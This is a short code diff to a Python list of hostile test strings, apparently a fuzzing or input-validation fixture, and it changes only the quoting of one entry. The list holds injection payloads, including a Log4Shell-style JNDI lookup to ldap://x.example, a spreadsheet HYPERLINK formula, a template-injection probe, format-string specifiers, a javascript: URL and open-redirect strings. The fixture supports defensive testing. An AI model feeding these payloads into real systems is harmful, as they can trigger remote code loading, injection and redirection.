@@ -56,7 +56,7 @@ NASTY = (
     "{{ 7 * 7 }}{% raw %}",
     "%(name)s%s%n",
     "${jndi:ldap://x.example}",
-    "=HYPERLINK(\"http://x.example\")",
+    '=HYPERLINK("http://x.example")',
     "javascript:alert(1)",
     "//x.example/",
     "/\\x.example",
